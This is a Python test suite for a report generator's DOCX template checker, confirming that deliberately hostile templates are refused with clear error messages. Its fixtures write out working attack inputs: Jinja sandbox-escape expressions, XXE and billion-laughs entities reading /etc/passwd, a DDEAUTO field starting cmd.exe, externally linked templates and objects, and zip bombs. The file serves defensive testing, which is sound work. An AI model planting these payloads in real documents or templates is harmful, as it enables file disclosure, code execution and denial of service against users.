"""Templates made to harm: each ends in a clear sentence, in little time and memory, and makes nothing."""

from __future__ import annotations

import io
import json
import os
import re
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from commands import run
from conftest import ROOT, consistent_report
from crashes import save
from nianbao import build
from nianbao.errors import TemplateError
from nianbao.outputs.docx import Properties
from nianbao.pack import Pack
from nianbao.rendering.lint import lint_template

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
GOOD = (ROOT / "templates" / "cn-ogi" / "2021" / "report.docx").read_bytes()
NOBODY = Properties("", "", "", "2024-01-31T00:00:00Z")
# Far more than any of these may take; the default template takes a tenth of it.
MEMORY, SECONDS = 1 << 30, 60


def changed(parts: Mapping[str, bytes | Callable[[bytes], bytes]]) -> bytes:
    """Return the good template with some of its parts changed or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as source, zipfile.ZipFile(stream, "w", 8) as target:
        contents = {name: source.read(name) for name in source.namelist()}
        for name, part in parts.items():
            contents[name] = part if isinstance(part, bytes) else part(contents.get(name, b""))
        for name, content in contents.items():
            target.writestr(name, content)
    return stream.getvalue()


def with_body(xml: str) -> bytes:
    """Return the good template with something more at the beginning of its body."""
    return changed(
        {"word/document.xml": lambda part: part.replace(b"<w:body>", f"<w:body>{xml}".encode(), 1)}
    )


def paragraph(text: str) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def saying(*texts: str) -> bytes:
    return with_body("".join(map(paragraph, texts)))


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    line = f'<Relationship Id="x" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return changed(
        {
            "word/_rels/document.xml.rels": lambda part: part.replace(
                b"</Relationships>", f"{line}</Relationships>".encode()
            )
        }
    )


def declaring(doctype: str, use: str) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(b"<w:document", f"{doctype}<w:document".encode(), 1).replace(
        b"<w:body>", f"<w:body>{paragraph('').replace('</w:t>', f'{use}</w:t>')}".encode(), 1
    )


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LOOP = "{%p for p in problems|paragraphs %}"

CODE = {
    "attribute of a constant": (saying("{{ ''.__class__ }}"), "点号前只能是栏目"),
    "attribute of a field": (saying("{{ agency.__class__.__mro__ }}"), "没有的栏目：agency.__class__"),
    "item of a field": (saying("{{ agency['__class__'] }}"), "没有的栏目：agency.__class__"),
    "attribute of a loop": (
        saying(LOOP, "{{ loop.__init__ }}", "{%p endfor %}"),
        "没有的栏目：loop.__init__",
    ),
    "calls": (saying("{{ agency.upper() }}"), "不允许的写法（调用）"),
    "range": (saying("{%p for i in range(10**9) %}", "x", "{%p endfor %}"), "不允许的写法"),
    "lipsum": (saying("{{ lipsum(n=10**6) }}"), "不允许的写法（调用）"),
    "cycler": (saying("{{ cycler('a').next.__globals__ }}"), "不允许的写法（调用）"),
    "a product": (saying("{{ 'a' * 10**9 }}"), "不允许的写法"),
    "a power": (saying("{{ 9**(9**9) }}"), "不允许的写法"),
    "format": (saying("{{ '%999999999d'|format(1) }}"), "format"),
    "a format string": (saying("{{ '%999999999d' % 1 }}"), "不允许的写法"),
    "center": (saying("{{ agency|center(10**9) }}"), "center"),
    "indent": (saying("{{ agency|indent(10**9) }}"), "indent"),
    "join": (saying("{{ overview|join }}"), "join"),
    "safe": (saying("{{ agency|safe }}"), "safe"),
    "map": (saying("{{ overview|map(attribute='__class__') }}"), "map"),
    "a slice": (saying("{{ agency[::-1] }}"), "不允许的写法（Slice）"),
    "set": (saying("{% set x = agency %}{{ x }}"), "不允许的写法（Assign）"),
    "doubling": (saying("{% set x = 'a' %}", LOOP, "{% set x = x ~ x %}", "{%p endfor %}"), "（Assign）"),
    "a macro": (saying("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"), "不允许的写法（Macro）"),
    "include": (saying("{% include '/etc/passwd' %}"), "不允许的写法（Include）"),
    "import": (saying("{% import 'x' as x %}"), "不允许的写法（Import）"),
    "extends": (saying("{% extends 'x' %}"), "不允许的写法（Extends）"),
    "a call block": (saying("{% call agency() %}{% endcall %}"), "不允许的写法"),
    "escaping off": (saying("{% autoescape false %}{{ agency }}{% endautoescape %}"), "不允许的写法"),
    "do": (saying("{% do agency.append(1) %}"), "写法有误"),
    "a loop over a list of its own": (saying("{% for a in [1, 2] %}x{% endfor %}"), "循环只能用于列表"),
    "a loop over figures": (saying("{% for a in requests %}x{% endfor %}"), "循环只能用于列表"),
    "a loop over letters": (saying("{% for a in agency %}x{% endfor %}"), "循环只能用于列表"),
    "a recursive loop": (
        saying("{% for a in overview.additional recursive %}{{ loop(overview.additional) }}{% endfor %}"),
        "不允许的写法（调用）",
    ),
    "parentheses": (saying(f"{{{{ {'(' * 140}agency{')' * 140} }}}}"), "套得太深"),
    "a long tag": (saying(f"{{{{ {' ~ '.join(['agency'] * 500)} }}}}"), "长于300字"),
    "conditions in conditions": (saying("{% if agency %}" * 400 + "{% endif %}" * 400), "套得太深"),
    "loops in loops": (saying(*[LOOP] * 400, *["{%p endfor %}"] * 400), "套得太深"),
    "too many tags": (saying("{{ agency }}" * 6_000), "多于5000处"),
    "marks without partner": (saying("{{r " * 50_000), "不成对"),
    "marks in the wrong order": (saying("}}" * 10_000 + "{{r " * 10_000), "不成对"),
    "marks in field codes": (
        with_body(f"<w:p><w:r><w:instrText>{'{%p ' * 50_000}</w:instrText></w:r></w:p>"),
        "正文以外的地方",
    ),
    "marks in attributes": (with_body('<w:p w:rsidR="{{ agency }}"/>'), "正文以外的地方"),
    "a loop that begins in a cell": (
        with_body(f"{paragraph(LOOP)}<w:tbl><w:tr><w:tc>{paragraph('{%p endfor %}')}</w:tc></w:tr></w:tbl>"),
        "不在同一层",
    ),
    "a condition that ends in a cell": (
        with_body(
            paragraph("{% if agency %}")
            + f"<w:tbl><w:tr><w:tc>{paragraph('{% endif %}')}</w:tc></w:tr></w:tbl>"
        ),
        "不在同一层",
    ),
}

PACKAGES = {
    "external entity": (
        changed(
            {"word/document.xml": declaring('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")}
        ),
        "DTD",
    ),
    "parameter entity": (
        changed({"word/styles.xml": b'<!DOCTYPE d [<!ENTITY % x SYSTEM "http://127.0.0.1:1/x"> %x;]><d/>'}),
        "DTD",
    ),
    "entities of entities": (
        changed({"word/document.xml": declaring(f'<!DOCTYPE d [<!ENTITY a0 "ha">{LAUGHS}]>', "&a9;")}),
        "(DTD|已损坏)",
    ),
    "external template": (
        relation("attachedTemplate", "http://198.51.100.1/x.dotm"),
        "引用了外部的文件（attached",
    ),
    "external picture": (relation("image", "file://198.51.100.1/share/x.png"), "引用了外部的文件（image"),
    "external object": (relation("oleObject", "http://198.51.100.1/x.html!"), "引用了外部的文件（oleObject"),
    "macros": (changed({"word/vbaProject.bin": b"x"}), "含有宏"),
    "a .docm": (
        changed(
            {
                "[Content_Types].xml": lambda part: part.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            }
        ),
        "含有宏",
    ),
    "a control": (changed({"word/activeX/activeX1.bin": b"x"}), "含有宏、控件"),
    "an embedded program": (changed({"word/embeddings/oleObject1.bin": b"x"}), "嵌入的程序"),
    "a field that starts a program": (
        with_body(
            "<w:p><w:r><w:fldChar/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
            r"<w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:r></w:p>"
        ),
        "读取外部内容的域“DDEAUTO",
    ),
    "a field that fetches": (
        with_body('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://198.51.100.1/x"/></w:p>'),
        "读取外部内容的域",
    ),
    "a zip bomb": (changed({"word/media/image1.png": bytes(200 << 20)}), "大得不正常"),
    "a zip bomb of XML": (
        changed({"word/header9.xml": f"<w:hdr {W}>".encode() + b" " * (30 << 20) + b"</w:hdr>"}),
        "大得不正常",
    ),
    "huge text": (saying("年" * 3_000_000), "大得不正常"),
    "deep XML": (with_body("<w:p>" * 5_000 + "</w:p>" * 5_000), "已损坏"),
    "broken XML": (changed({"word/styles.xml": b"<w:styles"}), "word/styles.xml已损坏"),
    "no document": (b"PK\5\6" + bytes(18), "没有word/document.xml"),
    "not a zip": (b"MZ" + bytes(1000), "不是可用的Word文档"),
    "half a zip": (GOOD[: len(GOOD) // 2], "不是可用的Word文档"),
    "damaged": (GOOD[:3000] + bytes(600) + GOOD[3600:], "不是可用的Word文档"),
}
ATTACKS = {**CODE, **PACKAGES}


def test_the_template_that_they_are_made_of_is_good(pack: Pack) -> None:
    assert lint_template(changed({}), "good.docx", pack.fields) == []
    assert (
        lint_template(saying("{{ agency }}", LOOP, "{{ p }}", "{%p endfor %}"), "good.docx", pack.fields)
        == []
    )
    hyperlink = relation("hyperlink", "https://www.gov.cn/")
    assert lint_template(hyperlink, "good.docx", pack.fields) == []


# Runs in a process of its own, whose memory and time are limited: lint each file named, print what was said.
LINT = """
import json, sys
from pathlib import Path
from nianbao import load_pack
from nianbao.rendering.lint import lint_template
fields = load_pack().fields
for name in sys.argv[1:]:
    problems = lint_template(Path(name).read_bytes(), "evil.docx", fields)
    print(json.dumps([p.message for p in problems if p.severity == "error"]), flush=True)
"""


# A library that multiplies matrices would keep memory for each processor.
ONE_THREAD = {**os.environ, "OPENBLAS_NUM_THREADS": "1"}


def limit() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
    resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))


@pytest.fixture(scope="module")
def said(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[str]]:
    """What is said of each attack."""
    folder = tmp_path_factory.mktemp("attacks")
    files = [folder / f"{number}.docx" for number in range(len(ATTACKS))]
    for file, (docx, _) in zip(files, ATTACKS.values(), strict=True):
        file.write_bytes(docx)
    command = [sys.executable, "-c", LINT, *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True, preexec_fn=limit, env=ONE_THREAD)
    assert (done.returncode, done.stderr) == (0, "")
    return dict(zip(ATTACKS, map(json.loads, done.stdout.splitlines()), strict=True))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_template_made_to_harm_is_refused_in_clear_sentences(
    said: dict[str, list[str]], attack: str
) -> None:
    messages, expected = said[attack], ATTACKS[attack][1]
    assert any(re.search(expected, message) for message in messages), messages
    assert all(message.startswith("模板evil.docx") and "\n" not in message for message in messages)
    assert all("Error" not in message and len(message) < 250 for message in messages)


@pytest.mark.parametrize("attack", ["range", "external template", "a zip bomb"])
def test_the_command_line_refuses_it_and_makes_nothing(pack: Pack, tmp_path: Path, attack: str) -> None:
    template = tmp_path / "evil.docx"
    template.write_bytes(ATTACKS[attack][0])
    source = save(tmp_path / "in.json", [consistent_report(pack, 1)])
    done = run("build", source, "-o", tmp_path / "out", "--template", template)
    assert done.returncode == 2
    assert done.stderr.endswith(f"错误：模板{template}不能使用，请按上面的说明修改\n")
    assert not (tmp_path / "out").exists()


def test_the_library_refuses_it_and_makes_nothing(pack: Pack, tmp_path: Path) -> None:
    with pytest.raises(TemplateError, match="不允许的写法"):
        build([consistent_report(pack, 1)], tmp_path / "out", pack, template=ATTACKS["range"][0])
    assert not (tmp_path / "out").exists()


# What a template that is not linted may try, such as one of a pack: it is loaded, and fails when it runs.
UNLINTED = {
    "attribute": "{{ ''.__class__ }}",
    "attributes": "{{ agency.__class__.__mro__ }}",
    "a product": "{{ 'a' * 10**9 }}",
    "a product of products": "{{ 10**9 * 'a' }}",
    "a power": "{{ 9**(9**9) }}",
    "a format string": "{{ '%999999999d' % 1 }}",
    "a division": "{{ 1 // 0 }}",
    "a sum": "{{ agency + 1 }}",
    "a loop over a list of its own": "{% for a in [1, 1, 1, 1, 1, 1, 1, 1, 1, 1] %}" * 9 + "{% endfor %}" * 9,
    "a loop over letters": "{% for a in problems %}" * 9 + "{% endfor %}" * 9,
    "a loop over figures": "{% for a in requests %}" * 9 + "{% endfor %}" * 9,
    "a loop over paragraphs": "{%for a in problems|paragraphs %}" * 9 + "x" + "{% endfor %}" * 9,
    "a macro that calls itself": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "doubling": (
        "{% set x = [agency] %}{% for a in problems|paragraphs %}{% for b in problems|paragraphs %}"
        "{% set _ = x.append(x[-1] ~ x[-1]) %}{% endfor %}{% endfor %}{{ x }}"
    ),
    "include": "{% include '/etc/passwd' %}",
    "a loop over a number": "{% for a in year %}{% endfor %}",
}
RUN = """
import json, sys
from pathlib import Path
from nianbao.errors import NianbaoError
from nianbao.outputs.docx import Properties
from nianbao.rendering.template import compile_template
text = "\\n".join(["问题"] * 100)
data = {"agency": "某局", "year": 2023, "problems": text, "requests": {str(n): n for n in range(30)}}
for name in sys.argv[1:]:
    try:
        template = compile_template(Path(name).read_bytes(), "evil.docx")
        said = len(template.render(data, Properties("", "", "", "2024-01-31T00:00:00Z")))
    except NianbaoError as error:
        said = error.message
    print(json.dumps(said), flush=True)
"""


def test_a_template_that_is_not_linted_fails_within_time_and_memory(tmp_path: Path) -> None:
    files = [tmp_path / f"{number}.docx" for number in range(len(UNLINTED))]
    for file, text in zip(files, UNLINTED.values(), strict=True):
        document = f"<w:document {W}><w:body>{paragraph(text)}</w:body></w:document>"
        file.write_bytes(changed({"word/document.xml": document.encode()}))
    command = [sys.executable, "-c", RUN, *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True, preexec_fn=limit, env=ONE_THREAD)
    assert (done.returncode, done.stderr) == (0, "")
    for attack, line in zip(UNLINTED, done.stdout.splitlines(), strict=True):
        message = json.loads(line)
        assert isinstance(message, str), attack
        assert message.startswith("模板"), (attack, message)
        assert len(message) < 250
